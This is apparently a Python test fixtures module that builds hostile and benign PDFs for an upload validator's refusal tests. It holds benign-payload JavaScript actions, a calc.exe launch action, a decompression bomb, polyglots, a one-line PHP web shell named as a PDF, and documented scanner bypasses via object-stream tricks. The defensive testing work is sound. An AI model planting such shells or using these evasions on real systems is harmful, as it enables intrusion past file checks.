"""Hostile and benign PDFs, built by code so every byte of each one is visible here.

Two kinds of builder: pikepdf for well-formed documents carrying a refused
feature, and `assemble` for structure pikepdf would never write (object
streams with predictors or without /Type /ObjStm, files that need repairing).
"""

import io
import zlib

import pikepdf

from tests.factories import MINIMAL_PDF, image_bytes

JS = pikepdf.Name.JavaScript
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def document(change=None, **options) -> bytes:
    """A one-page PDF from pikepdf, changed by `change(pdf)`, in compressed object streams."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    if change:
        change(pdf)
    options.setdefault("object_stream_mode", pikepdf.ObjectStreamMode.generate)
    return saved(pdf, compress_streams=True, **options)


def png_up_rows(data: bytes, columns: int) -> bytes:
    """Encode with the PNG "Up" predictor (filter type 2), as /Predictor 12 expects."""
    data += b"\0" * (-len(data) % columns)
    rows = [data[i : i + columns] for i in range(0, len(data), columns)]
    previous, out = bytes(columns), bytearray()
    for row in rows:
        out += b"\x02" + bytes((a - b) % 256 for a, b in zip(row, previous, strict=True))
        previous = row
    return bytes(out)


def object_stream(objects: dict[int, bytes], *, typed=True, columns=None) -> bytes:
    """The dictionary and data of an object stream holding `objects`, Flate-compressed."""
    header, body = [], b""
    for number, text in objects.items():
        header.append(b"%d %d" % (number, len(body)))
        body += text + b"\n"
    first = b" ".join(header) + b"\n"
    data = first + body
    parms = b""
    if columns:
        data = png_up_rows(data, columns)
        parms = b"/DecodeParms<</Predictor 12/Columns %d>>" % columns
    packed = zlib.compress(data)
    kind = b"/Type/ObjStm" if typed else b""
    head = b"<<%s/N %d/First %d/Filter/FlateDecode%s/Length %d>>" % (
        kind, len(objects), len(first), parms, len(packed)
    )  # fmt: skip
    return head + b"stream\n" + packed + b"\nendstream"


def assemble(objects: dict[int, bytes], *, packed: dict[int, int] | None = None, xref=True):
    """Write a PDF of numbered objects, with a cross-reference stream unless `xref` is False.

    `packed` maps object numbers to (object stream number, index) entries, for
    objects stored inside an object stream; without `xref`, qpdf has to repair
    the file to find anything.
    """
    out, offsets = bytearray(b"%PDF-1.7\n"), {}
    for number, text in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    if not xref:
        return bytes(out + b"trailer<</Root 1 0 R>>\n%%EOF\n")
    size = max([*objects, *(packed or {})]) + 2
    offsets[size - 1] = len(out)
    rows = bytearray(b"\x00\x00\x00\x00\x00\xff\xff")
    for number in range(1, size):
        if number in (packed or {}):
            stream, index = packed[number]
            rows += b"\x02" + stream.to_bytes(4, "big") + index.to_bytes(2, "big")
        else:
            rows += b"\x01" + offsets.get(number, 0).to_bytes(4, "big") + b"\x00\x00"
    out += b"%d 0 obj\n<</Type/XRef/Size %d/Root 1 0 R/W[1 4 2]/Length %d>>stream\n" % (
        size - 1, size, len(rows)
    )  # fmt: skip
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[size - 1]
    return bytes(out)


def packed_action(*, typed=True, columns=None, xref=True) -> bytes:
    """A catalog whose /OpenAction is object 5, a script packed in an object stream."""
    hidden = {5: b"<</S/JavaScript/JS(app.alert(1))>>"}
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        2: PAGES,
        3: PAGE,
        4: object_stream(hidden, typed=typed, columns=columns),
    }
    return assemble(objects, packed={5: (4, 0)}, xref=xref)


def classic(*, catalog=CATALOG, pages=PAGES, extra: dict[int, bytes] | None = None) -> bytes:
    return assemble({1: catalog, 2: pages, 3: PAGE, **(extra or {})})


def _open_action(action):
    def change(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(action)

    return change


def _annotation(**fields):
    def change(pdf):
        pdf.pages[0].Annots = pdf.make_indirect(
            pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot,
                                                               Rect=[0, 0, 10, 10], **fields))])
        )  # fmt: skip

    return change


def _named_script(pdf):
    scripts = pikepdf.Dictionary(Names=["hello", pikepdf.Dictionary(S=JS, JS="app.alert(1)")])
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=scripts)


def _attachment(pdf):
    pdf.attachments["notes.txt"] = b"hello"


def _xfa(pdf):
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp:xdp/>"))


def _field_submits(pdf):
    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://example.com/collect")
    field = pdf.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="name", AA={"/K": submit}))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field])


def _encrypted(user: str) -> bytes:
    return document(encryption=pikepdf.Encryption(owner="owner", user=user))


def _zip_appended() -> bytes:
    import zipfile

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("run.sh", "echo owned\n")
    return document() + archive.getvalue()


def _bomb_object_stream() -> bytes:
    # 10 KB on disk, 200 MB once inflated: refused before it is unpacked in full.
    packed = zlib.compress(b"5 0\n" + b" " * (200 * 1024 * 1024), 9)
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    return classic(extra={4: stream + packed + b"\nendstream"})


def uri():
    return pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.com/track")


def gotor():
    return pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="other.pdf", D=[0, pikepdf.Name.Fit])


# (id, file, what the refusal says, its code)
HOSTILE = [
    # The first bypass: a string holding the word "stream" hid the action.
    ("openaction-string-with-stream", classic(
        catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction<</T(a stream\n of words)"
                b"/S/JavaScript/JS(app.alert(1))>>>>"), "JavaScript", "pdf_active_content"),
    # The second bypass: a PNG predictor on a compressed object stream.
    ("script-in-predicted-object-stream", packed_action(columns=5), "JavaScript",
     "pdf_active_content"),
    ("object-stream-without-type", packed_action(typed=False), "JavaScript",
     "pdf_active_content"),
    ("object-stream-found-only-by-repair", packed_action(columns=7, xref=False), "JavaScript",
     "pdf_active_content"),
    ("openaction-chain-through-references", classic(
        catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        extra={4: b"<</S/GoTo/D[3 0 R/Fit]/Next[5 0 R]>>", 5: b"<</S/URI/URI(https://x.test)>>"}),
     "opens a web address by itself", "pdf_active_content"),
    ("aa-inherited-from-the-pages-node", classic(
        pages=b"<</Type/Pages/Kids[3 0 R]/Count 1/AA<</O 4 0 R>>>>",
        extra={4: b"<</S/URI/URI(https://x.test)>>"}),
     "opens a web address by itself", "pdf_active_content"),
    ("openaction-javascript", document(_open_action(pikepdf.Dictionary(S=JS, JS="app.alert(1)"))),
     "JavaScript", "pdf_active_content"),
    ("openaction-uri", document(_open_action(uri())), "opens a web address by itself",
     "pdf_active_content"),
    ("openaction-gotor", document(_open_action(gotor())), "opens other files",
     "pdf_active_content"),
    ("page-aa-javascript", document(lambda pdf: setattr(
        pdf.pages[0].obj, "AA", pikepdf.Dictionary(O=pikepdf.Dictionary(S=JS, JS="1")))),
     "JavaScript", "pdf_active_content"),
    ("names-javascript", document(_named_script), "JavaScript", "pdf_active_content"),
    ("link-launches-a-program", document(_annotation(
        Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"))),
     "launches programs", "pdf_active_content"),
    ("field-submits-on-keystroke", document(_field_submits), "sends or loads data",
     "pdf_active_content"),
    ("embedded-file", document(_attachment), "embedded files", "pdf_active_content"),
    ("file-attachment-annotation", document(_annotation(Subtype=pikepdf.Name.FileAttachment)),
     "embedded files", "pdf_active_content"),
    ("rich-media", document(_annotation(Subtype=pikepdf.Name.RichMedia)), "embedded media",
     "pdf_active_content"),
    ("xfa-form", document(_xfa), "an XFA form", "pdf_active_content"),
    ("encrypted-with-a-password", _encrypted("secret"), "encrypted", "pdf_encrypted"),
    ("encrypted-without-a-password", _encrypted(""), "encrypted", "pdf_encrypted"),
    ("truncated", document()[:-40], "incomplete", "pdf_truncated"),
    ("object-stream-bomb", _bomb_object_stream(), "can't check", "pdf_too_complex"),
    ("pdf-html-polyglot", b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n",
     "damaged", "pdf_damaged"),
    ("pdf-zip-polyglot", _zip_appended(), "after the end of the PDF", "pdf_trailing_data"),
    ("script-renamed-pdf", b"<?php system($_GET['cmd']); ?>\n%%EOF\n", "isn't a PDF, JPEG or PNG",
     "wrong_type"),
    ("zero-bytes", b"", "empty", "empty"),
    ("over-ten-megabytes", MINIMAL_PDF + b"%" * (11 * 1024 * 1024), "the limit is 10.0 MB",
     "too_large"),
    ("png-bomb-named-pdf", image_bytes("PNG", size=(20_000, 20_000), mode="1"),
     "megapixels", "too_many_pixels"),
]  # fmt: skip

BENIGN = [
    ("minimal-hand-written", MINIMAL_PDF),
    ("pikepdf-object-streams", document()),
    ("pikepdf-classic", document(object_stream_mode=pikepdf.ObjectStreamMode.disable)),
    ("clicked-web-link", document(_annotation(Subtype=pikepdf.Name.Link, A=uri()))),
]
